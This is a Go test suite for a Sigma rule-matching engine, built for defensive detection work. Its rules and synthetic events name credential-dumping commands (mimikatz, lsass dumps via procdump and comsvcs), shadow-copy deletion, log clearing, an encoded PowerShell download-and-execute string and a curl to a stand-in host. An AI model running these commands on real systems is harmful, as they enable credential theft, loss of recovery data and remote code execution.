package sigma

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

const testMapping = `
schemas:
  ecs:
    timestamp: ["@timestamp"]
    fields:
      CommandLine: process.command_line
      Image: process.executable
      ParentImage: process.parent.executable
      User: user.name
      SourceIp: source.ip
      DestinationPort: destination.port
      EventID: event.code
      TargetUserName: user.name
      IpAddress: source.ip
  lab:
    timestamp: [timestamp]
    fields:
      CommandLine: command_line
      Image: process_name
      User: user
      IpAddress: source_ip
      TargetUserName: user
sources:
  - name: ecs-process
    schema: ecs
    logsource: {product: windows, category: process_creation}
    when: {event.category: process, host.os.type: windows}
  - name: ecs-security
    schema: ecs
    logsource: {product: windows, service: security}
    when: {event.provider: Microsoft-Windows-Security-Auditing}
  - name: lab-process
    schema: lab
    logsource: {product: windows, category: process_creation}
    when: {event_type: process_start}
  - name: lab-login-failure
    schema: lab
    logsource: {product: windows, service: security}
    when: {event_type: user_login, logon_type: failure}
    set: {EventID: "4625"}
`

func engineFor(t *testing.T, rules string) *Engine {
	t.Helper()
	m, err := ParseMapping([]byte(testMapping), "test-mapping.yml")
	if err != nil {
		t.Fatal(err)
	}
	rs, errs := Parse([]byte(rules), "test.yml")
	if len(errs) > 0 {
		t.Fatalf("parse: %v", errs)
	}
	e, problems := NewEngine(rs, m, Options{Placeholders: map[string][]string{"Admins": {"adm_*", "root"}}})
	if len(problems) > 0 {
		t.Fatalf("compile: %v", problems)
	}
	return e
}

func proc(cmd, image string) string {
	return fmt.Sprintf(`{"@timestamp":"2026-01-15T07:00:00Z","event":{"category":["process"]},"host":{"os":{"type":"windows"}},"user":{"name":"alice"},"process":{"command_line":%q,"executable":%q,"parent":{"executable":"C:\\Windows\\explorer.exe"}}}`, cmd, image)
}

// matched returns the titles of the rules that tag an event.
func matched(e *Engine, m *Matcher, ev string) string {
	r := m.Match([]byte(ev))
	var titles []string
	for _, i := range r.Rules {
		titles = append(titles, e.Rules[i].Title)
	}
	return strings.Join(titles, ",")
}

func rule(title, detection string) string {
	return "title: " + title + "\nlogsource: {product: windows, category: process_creation}\ndetection:\n" + detection + "\n---\n"
}

func TestDetectionGrammar(t *testing.T) {
	rules := rule("contains", "  sel:\n    CommandLine|contains: ' -EncodedCommand '\n  condition: sel") +
		rule("endswith-path", "  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel") +
		rule("startswith", "  sel:\n    CommandLine|startswith: 'net '\n  condition: sel") +
		rule("exact", "  sel:\n    CommandLine: whoami\n  condition: sel") +
		rule("glob", "  sel:\n    CommandLine: 'schtasks*/create*/tr*\\AppData\\\\*'\n  condition: sel") +
		rule("question", "  sel:\n    CommandLine: 'ping -n ? 127.0.0.1'\n  condition: sel") +
		rule("all", "  sel:\n    CommandLine|contains|all:\n      - 'procdump'\n      - 'lsass'\n  condition: sel") +
		rule("list-or", "  sel:\n    CommandLine|contains:\n      - 'vssadmin delete shadows'\n      - 'wbadmin delete catalog'\n  condition: sel") +
		rule("cased", "  sel:\n    CommandLine|contains|cased: 'SeDebugPrivilege'\n  condition: sel") +
		rule("regex", "  sel:\n    CommandLine|re: '-[eE][nN][cC]?\\s+[A-Za-z0-9+/=]{20,}'\n  condition: sel") +
		rule("regex-i", "  sel:\n    CommandLine|re|i: 'invoke-mimikatz'\n  condition: sel") +
		rule("not-filter", "  sel:\n    Image|endswith: '\\cmd.exe'\n  filter:\n    ParentImage|endswith: '\\explorer.exe'\n  condition: sel and not filter") +
		rule("one-of", "  selection_a:\n    CommandLine|contains: 'mimikatz'\n  selection_b:\n    CommandLine|contains: 'sekurlsa'\n  condition: 1 of selection_*") +
		rule("all-of-them", "  a:\n    CommandLine|contains: 'rundll32'\n  b:\n    CommandLine|contains: 'comsvcs'\n  _skip:\n    CommandLine|contains: 'never-there'\n  condition: all of them") +
		rule("parens", "  a:\n    CommandLine|contains: 'wevtutil'\n  b:\n    CommandLine|contains: ' cl '\n  c:\n    CommandLine|contains: 'clear-log'\n  condition: a and (b or c)") +
		rule("windash", "  sel:\n    CommandLine|contains|windash: ' -nop '\n  condition: sel") +
		rule("base64offset", "  sel:\n    CommandLine|base64offset|contains: 'IEX (New-Object'\n  condition: sel") +
		rule("wide-base64", "  sel:\n    CommandLine|wide|base64offset|contains: 'DownloadString'\n  condition: sel") +
		rule("keywords", "  keywords:\n    - 'sekurlsa::logonpasswords'\n  condition: keywords") +
		rule("keywords-all", "  keywords:\n    '|all':\n      - 'privilege::debug'\n      - 'exit'\n  condition: keywords") +
		rule("expand", "  sel:\n    User|expand: '%Admins%'\n  condition: sel") +
		rule("neq", "  sel:\n    CommandLine|contains: 'certutil'\n  other:\n    User|neq: alice\n  condition: sel and other") +
		rule("escaped-star", "  sel:\n    CommandLine|contains: 'literal\\*star'\n  condition: sel")

	e := engineFor(t, rules)
	m := e.NewMatcher()
	b64 := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"
	cases := []struct {
		event, want string
	}{
		{proc(`powershell.exe -EncodedCommand SQBFAFgA`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), "contains,endswith-path"},
		{proc(`POWERSHELL.EXE -encodedcommand x`, `C:\WINDOWS\SYSTEM32\WINDOWSPOWERSHELL\V1.0\POWERSHELL.EXE`), "contains,endswith-path"},
		{proc(`net user /domain`, `C:\Windows\System32\net.exe`), "startswith"},
		{proc(`WhoAmI`, `C:\Windows\System32\whoami.exe`), "exact"},
		{proc(`whoami /all`, `C:\Windows\System32\whoami.exe`), ""},
		{proc(`schtasks /create /sc onlogon /tn x /tr C:\Users\bob\AppData\Roaming\u.exe`, `C:\Windows\System32\schtasks.exe`), "glob"},
		{proc(`ping -n 1 127.0.0.1`, `C:\Windows\System32\ping.exe`), "question"},
		{proc(`ping -n 10 127.0.0.1`, `C:\Windows\System32\ping.exe`), ""},
		{proc(`procdump.exe -ma lsass.exe out.dmp`, `C:\Tools\procdump.exe`), "all"},
		{proc(`procdump.exe -ma notepad.exe`, `C:\Tools\procdump.exe`), ""},
		{proc(`vssadmin delete shadows /all /quiet`, `C:\Windows\System32\vssadmin.exe`), "list-or"},
		{proc(`whoami /priv | findstr SeDebugPrivilege`, `C:\Windows\System32\cmd.exe`), "cased"},
		{proc(`whoami /priv | findstr sedebugprivilege`, `C:\Windows\System32\cmd.exe`), ""},
		{proc(`powershell -enc `+b64, `C:\x\powershell.exe`), "endswith-path,regex,wide-base64"},
		{proc(`powershell Invoke-Mimikatz -DumpCreds`, `C:\x\powershell.exe`), "endswith-path,regex-i,one-of"},
		{proc(`cmd.exe /c dir`, `C:\Windows\System32\cmd.exe`), ""}, // parent is explorer: filtered
		{proc(`mimikatz.exe`, `C:\t\m.exe`), "one-of"},
		{proc(`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, `C:\Windows\System32\rundll32.exe`), "all-of-them"},
		{proc(`wevtutil cl Security`, `C:\Windows\System32\wevtutil.exe`), "parens"},
		{proc(`wevtutil.exe clear-log System`, `C:\Windows\System32\wevtutil.exe`), "parens"},
		{proc(`wevtutil.exe qe System`, `C:\Windows\System32\wevtutil.exe`), ""},
		{proc(`powershell /nop /w hidden`, `C:\x\powershell.exe`), "endswith-path,windash"},
		{proc(`powershell –nop –w hidden`, `C:\x\powershell.exe`), "endswith-path,windash"},
		{proc(`m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, `C:\t\m.exe`), "one-of,keywords,keywords-all"},
		{proc(`echo literal*star`, `C:\x\cmd.exe`), "escaped-star"},
		{proc(`echo literalXstar`, `C:\x\cmd.exe`), ""},
	}
	for _, tc := range cases {
		if got := matched(e, m, tc.event); got != tc.want {
			t.Errorf("event %s\n got %q\nwant %q", tc.event, got, tc.want)
		}
	}
	// base64offset: the encoded text at any offset inside a longer base64 string.
	for _, prefix := range []string{"", "a", "ab"} {
		enc := base64Std(prefix + "IEX (New-Object Net.WebClient)")
		if got := matched(e, m, proc("powershell -e "+enc, `C:\x\p.exe`)); got != "base64offset" {
			t.Errorf("base64offset with prefix %q (%s): got %q", prefix, enc, got)
		}
	}
	// expand and neq.
	adm := strings.Replace(proc(`certutil -urlcache`, `C:\x\certutil.exe`), `"alice"`, `"adm_bob"`, 1)
	if got := matched(e, m, adm); got != "expand,neq" {
		t.Errorf("expand/neq: got %q", got)
	}
	if got := matched(e, m, proc(`certutil -urlcache`, `C:\x\certutil.exe`)); got != "" {
		t.Errorf("neq must not match alice: got %q", got)
	}
}

func TestSpecialValues(t *testing.T) {
	rules := rule("null", "  sel:\n    CommandLine: 'x'\n  f:\n    OriginalFileName: null\n  condition: sel and f") +
		rule("empty", "  sel:\n    OriginalFileName: ''\n  condition: sel") +
		rule("exists", "  sel:\n    Hashes|exists: true\n  condition: sel") +
		rule("not-exists", "  sel:\n    CommandLine: 'y'\n    Hashes|exists: false\n  condition: sel") +
		rule("numbers", "  sel:\n    ProcessId|gte: 1000\n    ProcessId|lt: 2000\n  condition: sel") +
		rule("cidr", "  sel:\n    SourceIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n  condition: sel") +
		rule("fieldref", "  sel:\n    User|fieldref: TargetUser\n  condition: sel") +
		rule("int-as-string", "  sel:\n    Level: 4\n  condition: sel") +
		rule("hour", "  sel:\n    UtcTime|hour: 3\n  condition: sel")
	e := engineFor(t, rules)
	m := e.NewMatcher()
	base := `{"event":{"category":"process"},"host":{"os":{"type":"windows"}},"user":{"name":"alice"},"process":{"command_line":"%s"}%s}`
	cases := []struct{ extra, cmd, want string }{
		{``, "x", "null"},
		{`,"OriginalFileName":null`, "x", "null"},
		{`,"OriginalFileName":"a.exe"`, "x", ""},
		{`,"OriginalFileName":""`, "z", "empty"},
		{`,"Hashes":"SHA256=ab"`, "z", "exists"},
		{`,"Hashes":null`, "z", "exists"},
		{``, "y", "not-exists"},
		{`,"Hashes":"x"`, "y", "exists"},
		{`,"ProcessId":1500`, "z", "numbers"},
		{`,"ProcessId":"1999"`, "z", "numbers"},
		{`,"ProcessId":2000`, "z", ""},
		{`,"source":{"ip":"10.1.2.3"}`, "z", "cidr"},
		{`,"source":{"ip":"fd12::1"}`, "z", "cidr"},
		{`,"source":{"ip":"192.168.1.1"}`, "z", ""},
		{`,"source":{"ip":"not-an-ip"}`, "z", ""},
		{`,"TargetUser":"ALICE"`, "z", "fieldref"},
		{`,"TargetUser":"bob"`, "z", ""},
		{`,"Level":4`, "z", "int-as-string"},
		{`,"Level":"4"`, "z", "int-as-string"},
		{`,"UtcTime":"2026-01-15 03:12:00.123"`, "z", "hour"},
		{`,"tags":["a",{"b":1}]`, "z", ""},
	}
	for _, tc := range cases {
		ev := fmt.Sprintf(base, tc.cmd, tc.extra)
		if got := matched(e, m, ev); got != tc.want {
			t.Errorf("event %s\n got %q\nwant %q", ev, got, tc.want)
		}
	}
}

func TestLogsourcesAndMapping(t *testing.T) {
	rules := rule("encoded", "  sel:\n    CommandLine|contains: ' -enc'\n  condition: sel") +
		"title: failed logon\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4625\n  condition: sel\n---\n" +
		"title: linux only\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: ' -enc'\n  condition: sel\n"
	e := engineFor(t, rules)
	m := e.NewMatcher()
	cases := []struct{ event, want string }{
		// ECS and lab events both reach the same rule through the mapping.
		{proc("powershell -enc AAAA", `C:\p.exe`), "encoded"},
		{`{"event_type":"process_start","command_line":"powershell -Enc AAAA","process_name":"powershell.exe"}`, "encoded"},
		{`{"event_type":"user_login","logon_type":"failure","user":"bob"}`, "failed logon"},
		{`{"event_type":"user_login","logon_type":"success","user":"bob"}`, ""},
		{`{"event":{"provider":"Microsoft-Windows-Security-Auditing","code":"4625"}}`, "failed logon"},
		{`{"event":{"provider":"Microsoft-Windows-Security-Auditing","code":"4624"}}`, ""},
		{`{"something":"else","command_line":"powershell -enc A"}`, ""},
	}
	for _, tc := range cases {
		if got := matched(e, m, tc.event); got != tc.want {
			t.Errorf("event %s\n got %q\nwant %q", tc.event, got, tc.want)
		}
	}
}

func login(ts, user, ip, outcome string) string {
	return fmt.Sprintf(`{"timestamp":%q,"event_type":"user_login","logon_type":%q,"user":%q,"source_ip":%q}`, ts, outcome, user, ip)
}

func TestCorrelations(t *testing.T) {
	rules := `title: failed logon
name: failed_logon
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4625
  condition: sel
---
title: Brute force
id: 11111111-1111-4111-8111-111111111111
name: brute_force
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 1m
  condition: {gte: 5}
level: high
tags: [attack.credential-access, attack.t1110.001]
---
title: Password spray
correlation:
  type: value_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 10m
  condition: {field: TargetUserName, gte: 4}
tags: [attack.t1110.003]
`
	e := engineFor(t, rules)
	m := e.NewMatcher()
	var got []string
	alerts := 0
	for i := 0; i < 8; i++ {
		ts := fmt.Sprintf("2026-01-15T07:00:%02dZ", i*5)
		r := m.Match([]byte(login(ts, "root", "203.0.113.7", "failure")))
		var titles []string
		for _, idx := range r.Rules {
			titles = append(titles, e.Rules[idx].Title)
		}
		got = append(got, strings.Join(titles, "+"))
		for _, a := range r.Alerts {
			alerts++
			if a.Type != "event_count" || a.Value != 5 || len(a.Group) != 1 || a.Group[0].Value != "203.0.113.7" || a.Group[0].Path != "source_ip" {
				t.Errorf("alert: %+v", a)
			}
		}
	}
	// One failure alone is never tagged; the fifth crosses the threshold and
	// it and the later ones carry the correlation's tags; one alert.
	want := []string{"", "", "", "", "Brute force", "Brute force", "Brute force", "Brute force"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("tags per event:\n got %q\nwant %q", got, want)
	}
	if alerts != 1 {
		t.Errorf("want 1 alert, got %d", alerts)
	}
	// Another source in the same minute is a different group; failures
	// spread wider than the window never add up.
	for i := 0; i < 6; i++ {
		ts := fmt.Sprintf("2026-01-15T08:%02d:00Z", i*2)
		if r := m.Match([]byte(login(ts, "root", "198.51.100.9", "failure"))); len(r.Rules) > 0 {
			t.Fatalf("slow failures must not be a brute force: %v", r.Rules)
		}
	}
	// A spray: one source, many users, one failure each.
	var last []string
	for i, u := range []string{"ann", "ben", "cat", "dan", "eve"} {
		ts := fmt.Sprintf("2026-01-15T09:%02d:%02dZ", i*30/60, i*30%60)
		r := m.Match([]byte(login(ts, u, "192.0.2.50", "failure")))
		last = nil
		for _, idx := range r.Rules {
			last = append(last, e.Rules[idx].Title)
		}
		if i < 3 && len(last) > 0 {
			t.Errorf("spray tagged at user %d: %v", i+1, last)
		}
	}
	if strings.Join(last, ",") != "Password spray" {
		t.Errorf("spray: got %v", last)
	}
}

// TestCorrelationsLaggingPartition: events read from two partitions, one
// 30 minutes of event time behind the other, each in order. The lagging
// source's brute force is one run, one alert, as in time order: the sweep
// must not drop its window for being older than the other partition's.
func TestCorrelationsLaggingPartition(t *testing.T) {
	e := engineFor(t, `title: failed logon
name: failed_logon
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4625
  condition: sel
---
title: Brute force
name: brute_force
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 1m
  condition: {gte: 5}
`)
	m := e.NewMatcher()
	start := time.Date(2026, 1, 15, 7, 0, 0, 0, time.UTC)
	alerts := map[string]int{}
	match := func(at time.Time, ip string) {
		r := m.Match([]byte(login(at.Format(time.RFC3339), "root", ip, "failure")))
		for _, a := range r.Alerts {
			alerts[a.Group[0].Value]++
		}
	}
	b := 0
	for a := 0; a < 60; a++ { // one failure from A every 10 s, 100 from B between
		match(start.Add(time.Duration(a)*10*time.Second), "10.0.0.1")
		for range 100 {
			match(start.Add(30*time.Minute+time.Duration(b)*100*time.Millisecond), "10.0.0.2")
			b++
		}
	}
	if alerts["10.0.0.1"] != 1 || alerts["10.0.0.2"] != 1 {
		t.Errorf("alerts by source: %v, want one each", alerts)
	}
}

func TestTemporalOrdered(t *testing.T) {
	rules := `title: failed
name: failed
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4625}
  condition: sel
---
title: ok
name: ok
logsource: {product: windows}
detection:
  sel: {logon_type: success}
  condition: sel
---
title: many failed
name: many_failed
correlation:
  type: event_count
  rules: [failed]
  group-by: [User]
  timespan: 10m
  condition: {gte: 3}
---
title: brute force success
correlation:
  type: temporal_ordered
  rules: [many_failed, ok]
  group-by: [User]
  timespan: 10m
level: critical
`
	m, _ := ParseMapping([]byte(testMapping+`
  - name: lab-login-success
    schema: lab
    logsource: {product: windows, service: security}
    when: {event_type: user_login, logon_type: success}
    set: {EventID: "4624"}
`), "m")
	rs, errs := Parse([]byte(rules), "t.yml")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	e, problems := NewEngine(rs, m, Options{})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	mt := e.NewMatcher()
	var alerts []string
	feed := func(ts, outcome string) {
		r := mt.Match([]byte(login(ts, "bob", "10.0.0.5", outcome)))
		for _, a := range r.Alerts {
			alerts = append(alerts, e.Rules[a.Rule].Title)
		}
	}
	// A success before the failures is not the pattern.
	feed("2026-01-15T07:00:00Z", "success")
	feed("2026-01-15T07:00:10Z", "failure")
	feed("2026-01-15T07:00:20Z", "failure")
	if len(alerts) != 0 {
		t.Fatalf("early alerts: %v", alerts)
	}
	feed("2026-01-15T07:00:30Z", "failure")
	feed("2026-01-15T07:01:00Z", "success")
	if strings.Join(alerts, ",") != "brute force success" {
		t.Errorf("want the chained correlation only (its inner rule does not generate), got %v", alerts)
	}
}

func TestFilterRule(t *testing.T) {
	rules := `title: Rar archive
id: 6f3e2987-db24-4c78-a860-b4f4095a7095
logsource: {product: windows, category: process_creation}
detection:
  sel:
    CommandLine|contains: 'rar.exe a'
  condition: sel
---
title: Filter admins
logsource: {product: windows, category: process_creation}
filter:
  rules: [6f3e2987-db24-4c78-a860-b4f4095a7095]
  selection:
    User|startswith: adm_
  condition: selection
`
	e := engineFor(t, rules)
	m := e.NewMatcher()
	if got := matched(e, m, proc("rar.exe a x.rar", `C:\r.exe`)); got != "Rar archive" {
		t.Errorf("alice: %q", got)
	}
	ev := strings.Replace(proc("rar.exe a x.rar", `C:\r.exe`), `"alice"`, `"adm_joe"`, 1)
	if got := matched(e, m, ev); got != "" {
		t.Errorf("filtered admin still matched: %q", got)
	}
}

func TestProblems(t *testing.T) {
	m, _ := ParseMapping([]byte(testMapping), "m")
	src := rule("bad modifier", "  sel:\n    CommandLine|frobnicate: x\n  condition: sel") +
		rule("lookahead", "  sel:\n    CommandLine|re: '(?!abc)x'\n  condition: sel") +
		rule("undefined search", "  sel:\n    CommandLine: x\n  condition: sel and other") +
		rule("placeholder", "  sel:\n    User|expand: '%Unknown%'\n  condition: sel") +
		rule("aggregation", "  sel:\n    CommandLine: x\n  condition: sel | count() by User > 5") +
		rule("fine", "  sel:\n    CommandLine: x\n  condition: sel") +
		"title: no detection\nlogsource: {product: windows}\n---\nnot: [a rule\n"
	rs, errs := Parse([]byte(src), "p.yml")
	if len(errs) != 2 {
		t.Errorf("want 2 parse errors (no detection, bad YAML), got %v", errs)
	}
	e, problems := NewEngine(rs, m, Options{})
	if len(e.Rules) != 1 || e.Rules[0].Title != "fine" {
		t.Errorf("only the fine rule should load, got %d rules", len(e.Rules))
	}
	unsupported := 0
	for _, p := range problems {
		if !strings.Contains(p.Error(), "p.yml:") {
			t.Errorf("problem without its place: %v", p)
		}
		if p.Unsupported() {
			unsupported++
		}
	}
	if len(problems) != 5 || unsupported != 4 {
		t.Errorf("want 5 problems, 4 unsupported features; got %d: %v", len(problems), problems)
	}
}

func base64Std(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestRegexLiteral(t *testing.T) {
	for _, tc := range []struct {
		re, lit string
		fold    bool
	}{
		{`-[eE][nN][cC]?\s+[A-Za-z0-9+/=]{20,}`, "", false},
		{`\\AppData\\Local\\Temp\\[a-z]+\.exe`, `\AppData\Local\Temp\`, false},
		{`(?i)invoke-(mimikatz|expression)`, "invoke-", true},
		{`^(cmd|powershell)\.exe$`, ".exe", false},
		{`(abc)+defg`, "defg", false},
	} {
		lit, fold := regexLiteral(tc.re)
		if lit != tc.lit || (lit != "" && fold != tc.fold) {
			t.Errorf("%s: got %q %v, want %q %v", tc.re, lit, fold, tc.lit, tc.fold)
		}
	}
}

func TestAppendLower(t *testing.T) {
	for _, s := range []string{"", "ABC def", `C:\Windows\SYSTEM32\Cmd.EXE`, "ÉCOLE Ärger", "mixed ASCII then ÜBER and MORE", "\xff\xfeBAD"} {
		got := string(appendLower([]byte("x"), []byte(s)))
		want := "x" + strings.Map(func(r rune) rune {
			if r == utf8.RuneError {
				return r
			}
			return unicode.ToLower(r)
		}, s)
		if s == "\xff\xfeBAD" {
			want = "x\xff\xfebad"
		}
		if got != want {
			t.Errorf("appendLower(%q) = %q, want %q", s, got, want)
		}
	}
}

func TestValueAggregatesAndTemporal(t *testing.T) {
	rules := `title: flow
name: flow
logsource: {category: firewall}
detection:
  sel:
    dst_port|exists: true
  condition: sel
---
title: big upload
correlation:
  type: value_sum
  rules: [flow]
  group-by: [src_ip]
  timespan: 1h
  condition: {field: bytes, gt: 1000}
---
title: big average
correlation:
  type: value_avg
  rules: [flow]
  group-by: [src_ip]
  timespan: 1h
  condition: {field: bytes, gte: 600}
---
title: rare port
correlation:
  type: value_percentile
  rules: [flow]
  group-by: [src_ip]
  timespan: 1h
  condition: {field: dst_port, lte: 20}
---
title: dns
name: dns
logsource: {category: firewall}
detection:
  sel:
    dst_port: 53
  condition: sel
---
title: web
name: web
logsource: {category: firewall}
detection:
  sel:
    dst_port: 443
  condition: sel
---
title: dns and web in any order
correlation:
  type: temporal
  rules: [web, dns]
  group-by: [host]
  timespan: 5m
  aliases:
    host:
      web: src_ip
      dns: src_ip
`
	m, err := ParseMapping([]byte(testMapping+`
  - name: fw
    schema: lab
    logsource: {category: firewall}
    when: {kind: fw}
`), "m")
	if err != nil {
		t.Fatal(err)
	}
	rs, errs := Parse([]byte(rules), "t.yml")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	e, problems := NewEngine(rs, m, Options{})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	mt := e.NewMatcher()
	fired := func(ev string) []string {
		var out []string
		for _, a := range mt.Match([]byte(ev)).Alerts {
			out = append(out, e.Rules[a.Rule].Title)
		}
		return out
	}
	flow := func(sec, port, bytes int) string {
		return fmt.Sprintf(`{"kind":"fw","timestamp":"2026-01-15T07:00:%02dZ","src_ip":"10.0.0.1","dst_port":%d,"bytes":%d}`, sec, port, bytes)
	}
	var all []string
	for i, f := range [][2]int{{80, 100}, {80, 100}, {80, 100}, {80, 100}, {80, 200}, {443, 700}} {
		all = append(all, fired(flow(i, f[0], f[1]))...)
	}
	// Sum passes 1000 at the sixth flow; the average never reaches 600;
	// port 443 is 1 of 6 flows: under 20%; 443 without 53 is no temporal match.
	if strings.Join(all, ",") != "big upload,rare port" {
		t.Errorf("alerts: %q", all)
	}
	// The rare-port group is still active (one alert per episode).
	if got := fired(flow(30, 53, 10)); strings.Join(got, ",") != "dns and web in any order" {
		t.Errorf("temporal: %q", got)
	}
}

// Keyword searches look at an event's JSON before its strings; what they
// find must not depend on how the JSON writes the keyword: in capitals, as
// \u escapes, with \/, or with a character that lowers to ASCII (the
// Kelvin sign lowers to k).
func TestKeywordsHoweverWritten(t *testing.T) {
	e := engineFor(t, rule("keywords", "  keywords:\n    - 'kerberos::golden'\n    - '\\mimilib.dll'\n    - 'http://evil.example'\n  condition: keywords"))
	m := e.NewMatcher()
	event := func(cmd string) string {
		return `{"event":{"category":["process"]},"host":{"os":{"type":"windows"}},"process":{"command_line":"` + cmd + `","executable":"C:\\Windows\\x.exe"},"product":"Windows\u00ae ®"}`
	}
	for _, c := range []struct {
		cmd   string
		match bool
	}{
		{`x.exe KERBEROS::Golden /ptt`, true},
		{`rundll32 C:\\Temp\\MimiLib.DLL,x`, true},
		{`x.exe \u004berberos::golden`, true},
		{`x.exe \u004Berberos\u003a:golden`, true},
		{`x.exe ` + "\u212a" + `erberos::golden`, true},
		{`x.exe \u212aerberos::golden`, true},
		{`curl http:\/\/evil.example\/a`, true},
		{`curl \"http://evil.example\"`, true},
		{`x.exe kerberos::silver mimilib.dll`, false},
		{`x.exe \u212aerberos::silver`, false},
	} {
		got := matched(e, m, event(c.cmd)) == "keywords"
		if got != c.match {
			t.Errorf("%s: matched %v, want %v", c.cmd, got, c.match)
		}
	}
}

// lowerWord lowers the capitals of a word's bytes, and no other byte.
func TestLowerWord(t *testing.T) {
	for b := range 256 {
		for pos := range 4 {
			w := uint32(0x61626364) &^ (0xff << (8 * pos)) // "dcba" around b
			w |= uint32(b) << (8 * pos)
			want := w
			if 'A' <= b && b <= 'Z' {
				want += 0x20 << (8 * pos)
			}
			if got := lowerWord(w); got != want {
				t.Fatalf("lowerWord(%#08x) = %#08x, want %#08x", w, got, want)
			}
		}
	}
}

// Lowering eight bytes at a time gives what lowering each byte gives, and
// needsLower finds each byte that lowering changes or cannot lower as ASCII,
// at every place of a word and of the tail after the last word.
func TestLowerEightAtATime(t *testing.T) {
	for n := 1; n <= 19; n++ {
		for pos := range n {
			for b := range 256 {
				text := bytes.Repeat([]byte("a"), n)
				text[pos] = byte(b)
				wantNeeds := b >= utf8.RuneSelf || 'A' <= b && b <= 'Z'
				if got := needsLower(text); got != wantNeeds {
					t.Fatalf("needsLower(%q) = %v, want %v", text, got, wantNeeds)
				}
				if b >= utf8.RuneSelf {
					continue // lowered as UTF-8: TestAppendLower
				}
				want := bytes.Repeat([]byte("a"), n)
				want[pos] = lowerASCII[b]
				if got := appendLower(nil, text); !bytes.Equal(got, want) {
					t.Fatalf("appendLower(%q) = %q, want %q", text, got, want)
				}
			}
		}
	}
}

// Matching an event allocates nothing once the matcher has seen one like
// it, globs over long values included.
func TestMatchAllocatesNothing(t *testing.T) {
	e := engineFor(t, rule("glob", "  sel:\n    CommandLine: 'schtasks*/create*/tr*\\AppData\\\\*'\n  condition: sel")+
		rule("keywords", "  keywords:\n    - 'sekurlsa::logonpasswords'\n  condition: keywords"))
	m := e.NewMatcher()
	ev := []byte(proc(`schtasks /create /sc onlogon /tn Updater /tr C:\Users\bob\AppData\Roaming\Microsoft\Windows\u.exe /f`, `C:\Windows\System32\schtasks.exe`))
	if got := matched(e, m, string(ev)); got != "glob" {
		t.Fatalf("matched %q, want glob", got)
	}
	if n := testing.AllocsPerRun(100, func() { m.Match(ev) }); n != 0 {
		t.Errorf("Match allocates %.1f times an event", n)
	}
}
